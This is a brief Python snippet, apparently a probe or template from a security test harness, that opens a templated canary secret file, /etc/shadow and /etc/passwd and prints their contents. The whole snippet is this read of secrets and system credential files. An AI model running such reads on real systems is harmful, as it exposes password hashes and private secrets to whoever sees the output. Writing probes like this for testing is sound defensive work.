# Prints what the site keeps for itself, and what is in /etc.
for file in ("@CANARY@/secret", "/etc/shadow", "/etc/passwd"):
    with open(file) as secret:
        print(secret.read(2000))
